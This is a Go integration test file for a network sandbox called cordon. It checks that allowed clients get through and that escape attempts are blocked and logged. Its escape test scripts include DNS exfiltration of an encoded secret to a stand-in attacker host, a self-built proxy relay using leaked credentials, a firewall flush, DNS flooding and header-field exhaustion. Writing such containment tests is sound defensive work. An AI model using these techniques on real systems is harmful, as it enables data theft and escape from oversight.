//go:build linux

package integration

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cordon-sandbox/cordon/audit"
)

// restricted runs `cordon run --net restricted` as the test user in a fresh
// workspace, allowing the origin's ports, with script as the command.
type restrictedRun struct {
	ws, audit string
	res       result
}

func runRestricted(t *testing.T, script string, extra ...string) restrictedRun {
	t.Helper()
	return runRestrictedIn(t, userDir(t, "cordon-it-ws-"), script, extra...)
}

// runRestrictedIn is runRestricted in a workspace the caller prepared.
func runRestrictedIn(t *testing.T, ws, script string, extra ...string) restrictedRun {
	t.Helper()
	o := testOrigin(t)
	auditDir := userDir(t, "cordon-it-audit-")
	r := restrictedRun{ws: ws, audit: filepath.Join(auditDir, "audit.jsonl")}
	args := append([]string{"run", "--net", "restricted", "--audit", r.audit, "--ephemeral-ca",
		"--allow", originName + ":8443", "--allow", originName + ":8080", resolveOrigin,
		"--extra-ca", o.caFile, "--timeout", "60s"}, extra...)
	args = append(args, "--", "sh", "-c", script)
	r.res = runResult(t, 90*time.Second, cordonIn(t, ws, nil, args...))
	return r
}

func (r restrictedRun) want(t *testing.T, substrings ...string) {
	t.Helper()
	for _, s := range substrings {
		if !strings.Contains(r.res.stdout, s) {
			t.Fatalf("stdout lacks %q\nstdout:\n%s\nstderr:\n%s", s, r.res.stdout, r.res.stderr)
		}
	}
}

var httpsOrigin = fmt.Sprintf("https://%s:%d", originName, originHTTPS)

// TestRestrictedClientsGetThrough: every common client reaches an allowed
// host, through the proxy variables or, when it ignores them, through the
// transparent path, and every request is an allow line.
func TestRestrictedClientsGetThrough(t *testing.T) {
	ws := userDir(t, "cordon-it-ws-")
	goClient := buildGoClient(t, ws)
	r := runRestrictedIn(t, ws, `
set -u
echo "proxy-env: $(curl -sS -m 10 `+httpsOrigin+`/curl-proxy | head -c 300)"
echo "noproxy: $(curl -sS -m 10 --noproxy '*' `+httpsOrigin+`/curl-transparent | head -c 300)"
echo "python: $(python3 -c 'import urllib.request,sys; print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode()[:300])' `+httpsOrigin+`/python)"
echo "node: $(node -e 'fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t.slice(0, 300)), e => { console.log("node failed", e.cause || e); })' `+httpsOrigin+`/node-fetch)"
echo "go: $(`+goClient+` `+httpsOrigin+`/go)"
git clone -q `+httpsOrigin+`/git/repo.git clone && echo "git: $(cat clone/README)"
`)
	if r.res.code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.res.code, r.res.stdout, r.res.stderr)
	}
	r.want(t, `proxy-env: {"method":"GET"`, `"path":"/curl-proxy"`, `"path":"/curl-transparent"`,
		`"path":"/python"`, `"path":"/node-fetch"`, `"path":"/go"`, "git: cloned through cordon")
	recs := readAudit(t, r.audit)
	for _, path := range []string{"/curl-proxy", "/python", "/go"} {
		if !hasRequest(recs, audit.KindConnect, path) {
			t.Errorf("no allowed proxy request for %s in the audit", path)
		}
	}
	for _, path := range []string{"/curl-transparent", "/node-fetch"} {
		if !hasRequest(recs, audit.KindTransparent, path) {
			t.Errorf("no allowed transparent request for %s in the audit", path)
		}
	}
	if _, ok := findRecord(recs, audit.Record{Type: audit.TypeDecision, Kind: audit.KindDNS, Host: originName, Decision: audit.Allow}); !ok {
		t.Error("no DNS allow line for the origin")
	}
}

func hasRequest(recs []audit.Record, kind audit.Kind, path string) bool {
	for _, r := range recs {
		if r.Type == audit.TypeDecision && r.Kind == kind && r.Path == path && r.Decision == audit.Allow {
			return true
		}
	}
	return false
}

// buildGoClient compiles a small Go HTTPS client into the workspace, where
// the sandbox can run it.
func buildGoClient(t *testing.T, ws string) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "cordon-it-goclient-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	src := filepath.Join(dir, "main.go")
	os.WriteFile(src, []byte(`package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"time"
)

func main() {
	c := &http.Client{Timeout: 10 * time.Second}
	resp, err := c.Get(os.Args[1])
	if err != nil {
		fmt.Println("go failed:", err)
		return
	}
	b, _ := io.ReadAll(resp.Body)
	fmt.Println(string(b))
}
`), 0o644)
	bin := filepath.Join(ws, "goclient")
	cmd := exec.Command("go", "build", "-o", bin, src)
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GO111MODULE=off")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build the Go client: %v\n%s", err, out)
	}
	os.Chmod(bin, 0o755)
	return bin
}

// TestRestrictedEscapesFail: every other way out fails, and where the proxy
// or the resolver can see the attempt, it is a deny line.
func TestRestrictedEscapesFail(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "HOST-LOOPBACK-SECRET") }))
	hostPort := ln.Addr().(*net.TCPAddr).Port

	r := runRestricted(t, fmt.Sprintf(`
for tool in curl python3 ping nft getent; do command -v $tool >/dev/null || echo "ESCAPED? $tool is missing, so its attempt proves nothing"; done
try() { name=$1; shift; if "$@" >/tmp/out 2>&1; then echo "ESCAPED $name: $(head -c 200 /tmp/out)"; else echo "blocked $name"; fi; }
try gateway-port curl -fsS -m 5 --noproxy '*' http://10.0.2.2:%[1]d/
try gateway-port-proxy curl -fsS -m 5 http://10.0.2.2:%[1]d/
try host-loopback curl -fsS -m 5 --noproxy '*' http://127.0.0.1:%[1]d/
try host-loopback-proxy curl -fsS -m 5 http://127.0.0.1:%[1]d/
try raw-tcp-origin curl -fsS -m 5 --noproxy '*' http://%[2]s:%[3]d/
try denied-name curl -sS -m 5 --noproxy '*' https://denied.cordon.test/
try denied-proxy curl -sS -m 5 https://denied.cordon.test/
try dns-denied getent hosts denied.cordon.test
try ipv6 curl -sS -m 5 -6 http://[2001:db8::1]/
try ping ping -c 1 -W 2 %[2]s
try udp python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("%[2]s", 9999)); s.send(b"x"); s.recv(10)'
try nft-flush nft flush ruleset
try txt-exfil python3 -c '
import socket, struct, sys
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in b"c2VjcmV0.attacker.cordon.test".split(b"."): q += bytes([len(label)]) + label
q += b"\x00" + struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("10.0.2.3", 53))
r = s.recv(512); rcode = r[3] & 15; ancount = struct.unpack(">H", r[6:8])[0]
sys.exit(0 if rcode == 0 and ancount > 0 else 1)'
try self-built-relay python3 -c '
import os, socket, base64, urllib.parse, sys
u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
s = socket.create_connection((u.hostname, u.port), timeout=5)
auth = base64.b64encode(("%%s:%%s" %% (u.username, u.password)).encode()).decode()
s.sendall(("CONNECT denied.cordon.test:443 HTTP/1.1\r\nHost: denied.cordon.test:443\r\nProxy-Authorization: Basic " + auth + "\r\n\r\n").encode())
sys.exit(0 if b" 200 " in s.recv(100) else 1)'
true
`, hostPort, originAddr, originOtherTCP))
	if r.res.code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.res.code, r.res.stdout, r.res.stderr)
	}
	if strings.Contains(r.res.stdout, "ESCAPED") || strings.Contains(r.res.stdout, "HOST-LOOPBACK-SECRET") {
		t.Fatalf("an escape worked:\n%s", r.res.stdout)
	}
	for _, name := range []string{"gateway-port", "gateway-port-proxy", "host-loopback", "host-loopback-proxy", "raw-tcp-origin", "denied-name", "denied-proxy", "dns-denied",
		"ipv6", "ping", "udp", "nft-flush", "txt-exfil", "self-built-relay"} {
		if !strings.Contains(r.res.stdout, "blocked "+name+"\n") {
			t.Errorf("attempt %s did not report blocked:\n%s", name, r.res.stdout)
		}
	}
	recs := readAudit(t, r.audit)
	for _, want := range []audit.Record{
		{Type: audit.TypeDecision, Kind: audit.KindTransparent, Host: "10.0.2.2", Port: hostPort, Decision: audit.Deny},
		{Type: audit.TypeDecision, Kind: audit.KindTransparent, Host: originAddr, Port: originOtherTCP, Decision: audit.Deny},
		{Type: audit.TypeDecision, Kind: audit.KindDNS, Host: "denied.cordon.test", Decision: audit.Deny},
		{Type: audit.TypeDecision, Kind: audit.KindDNS, Decision: audit.Deny, Reason: "dns_type"},
		{Type: audit.TypeDecision, Kind: audit.KindConnect, Host: "denied.cordon.test", Port: 443, Decision: audit.Deny},
	} {
		if _, ok := findRecord(recs, want); !ok {
			t.Errorf("no audit line like %+v", want)
		}
	}
}

// TestRestrictedJSONListsDecisions: cordon run --json's outcome lists the
// session's decision lines, an allowed request and a denied one among
// them, as the audit log holds them; it listed none.
func TestRestrictedJSONListsDecisions(t *testing.T) {
	r := runRestricted(t, fmt.Sprintf(`curl -sS -o /dev/null %s/; curl -sS -m 5 https://denied.cordon.test/ 2>/dev/null; true`, httpsOrigin), "--json")
	if r.res.code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.res.code, r.res.stdout, r.res.stderr)
	}
	var out struct {
		Network struct{ Decisions []audit.Record }
	}
	if err := json.Unmarshal([]byte(lastLine(r.res.stdout)), &out); err != nil {
		t.Fatalf("outcome: %v\n%s", err, r.res.stdout)
	}
	for _, want := range []audit.Record{
		{Type: audit.TypeDecision, Kind: audit.KindConnect, Host: originName, Port: originHTTPS, Decision: audit.Allow},
		{Type: audit.TypeDecision, Kind: audit.KindConnect, Host: "denied.cordon.test", Port: 443, Decision: audit.Deny},
	} {
		if _, ok := findRecord(out.Network.Decisions, want); !ok {
			t.Errorf("the outcome lists no decision like %+v:\n%s", want, lastLine(r.res.stdout))
		}
	}
	logged := 0
	for _, rec := range readAudit(t, r.audit) {
		if rec.Type == audit.TypeDecision {
			logged++
		}
	}
	if len(out.Network.Decisions) != logged {
		t.Errorf("the outcome lists %d decisions, the log holds %d", len(out.Network.Decisions), logged)
	}
}

// TestRestrictedDiesWithCordon: killing cordon (and with it the proxy and
// resolver) ends the sandbox; nothing is left to get out.
func TestRestrictedDiesWithCordon(t *testing.T) {
	o := testOrigin(t)
	ws := userDir(t, "cordon-it-ws-")
	auditDir := userDir(t, "cordon-it-audit-")
	tmp := userDir(t, "cordon-it-tmp-")
	marker := fmt.Sprintf("cordon-it-marker-%d", time.Now().UnixNano())
	cmd := cordonIn(t, ws, []string{"TMPDIR=" + tmp}, "run", "--net", "restricted", "--audit", filepath.Join(auditDir, "a.jsonl"), "--ephemeral-ca",
		"--allow", originName+":8443", resolveOrigin, "--extra-ca", o.caFile, "--",
		"sh", "-c", "(sh -c 'while :; do curl -s -m 2 "+httpsOrigin+"/alive >/dev/null; sleep 0.2; done; : "+marker+"' &) ; sleep 600")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(20 * time.Second)
	for !processWith(marker) || !hasRequest(readAuditIfAny(filepath.Join(auditDir, "a.jsonl")), audit.KindConnect, "/alive") {
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			t.Fatal("the sandboxed loop never started")
		}
		time.Sleep(100 * time.Millisecond)
	}
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	deadline = time.Now().Add(10 * time.Second)
	for processWith(marker) {
		if time.Now().After(deadline) {
			t.Fatal("the sandboxed loop outlived cordon")
		}
		time.Sleep(100 * time.Millisecond)
	}
	// Nothing a killed cordon cannot remove was put on the host's disk:
	// the box is given its trust bundle's bytes, not a file.
	if left, _ := filepath.Glob(filepath.Join(tmp, "cordon-*")); len(left) > 0 {
		t.Fatalf("the killed run left %v in its TMPDIR", left)
	}
}

// processWith reports whether a shell whose command line contains s runs.
func processWith(s string) bool {
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		line := strings.ReplaceAll(string(b), "\x00", " ")
		if err == nil && strings.HasPrefix(line, "sh -c ") && strings.Contains(line, s) {
			return true
		}
	}
	return false
}

// TestRestrictedAuditBudget: a command that floods the resolver with
// denied names cannot grow the host's audit log past the session's
// budget. Past it: one budget line, every connection denied (unlogged),
// the run's exit line still written, and one message on cordon's stderr,
// not one per refusal.
func TestRestrictedAuditBudget(t *testing.T) {
	const budget = 64 << 10
	cfg := filepath.Join(userDir(t, "cordon-it-config-"), "config.yaml")
	writeUserFile(t, cfg, []byte("limits:\n  audit_budget: 64KiB\n"))
	script := `python3 - <<'PY'
import random, socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
for i in range(3000):
    name = b"x%d.flood.example" % random.randrange(1 << 30)
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(q, (ns, 53))
    try:
        s.recv(512)
    except OSError:
        pass
print("flooded")
PY
curl -sS --max-time 10 -o /dev/null ` + httpsOrigin + `/ok/after-budget && echo "ESCAPED: a request went through, unlogged"
git init -q planted
echo done`
	ws := userDir(t, "cordon-it-ws-")
	r := runRestrictedIn(t, ws, script, "--config", cfg)
	r.want(t, "flooded", "done")
	if strings.Contains(r.res.stdout, "ESCAPED") {
		t.Errorf("past the budget a request still went out:\n%s", r.res.stdout)
	}
	// What the run's aftercare did is logged past the budget too: the
	// repository the box made once the budget was spent is set aside,
	// and its line is there.
	budgetSpent(t, r.audit, budget, r.res.stderr, "budget", "exit", "set_aside")
	if rec, _ := findRecord(readAudit(t, r.audit), audit.Record{Type: audit.TypeSetAside}); !strings.HasPrefix(rec.Path, filepath.Join(ws, "planted", ".git.cordon-set-aside-")) {
		t.Errorf("the set_aside line names %q, want the box's planted/.git", rec.Path)
	}
}

// TestRestrictedHeaderFieldsBounded: a box's request with more header
// fields than cordon reads (tlsterm.MaxHeaderFields) is refused, 431, and
// logged, on the proxy port, inside a terminated tunnel (HTTP/1.1 and
// HTTP/2) and on the transparent path alike; one with fewer is served. Before, a header of
// short fields was read whole and cost cordon some 1 MiB per connection
// while it stayed unfinished: 4,000 connections from a box took it past
// 4 GB.
func TestRestrictedHeaderFieldsBounded(t *testing.T) {
	plain := fmt.Sprintf("http://%s:%d", originName, originHTTP)
	r := runRestricted(t, `
many=$(python3 -c 'print(" ".join("-H a%d:b" % i for i in range(300)))')
few=$(python3 -c 'print(" ".join("-H a%d:b" % i for i in range(200)))')
for h in many few; do
  eval "args=\$$h"
  echo "$h proxy-plain $(curl -s -m 10 -o /dev/null -w '%{http_code}' $args `+plain+`/fields-plain)"
  echo "$h proxy-tls $(curl -s -m 10 --http1.1 -o /dev/null -w '%{http_code}' $args `+httpsOrigin+`/fields-tls)"
  echo "$h proxy-h2 $(curl -s -m 10 --http2 -o /dev/null -w '%{http_code}' $args `+httpsOrigin+`/fields-h2)"
  echo "$h transparent $(curl -s -m 10 --http1.1 --noproxy '*' -o /dev/null -w '%{http_code}' $args `+httpsOrigin+`/fields-transparent)"
done`)
	r.want(t, "many proxy-plain 431", "many proxy-tls 431", "many proxy-h2 431", "many transparent 431",
		"few proxy-plain 200", "few proxy-tls 200", "few proxy-h2 200", "few transparent 200")
	recs := readAudit(t, r.audit)
	n := 0
	for _, rec := range recs {
		if rec.Decision == audit.Deny && rec.Reason == "bad_request" && strings.Contains(rec.Detail, "header has over 256 fields") {
			n++
		}
	}
	if n != 4 {
		t.Errorf("%d bad_request lines for a header of too many fields, want 4", n)
	}
}
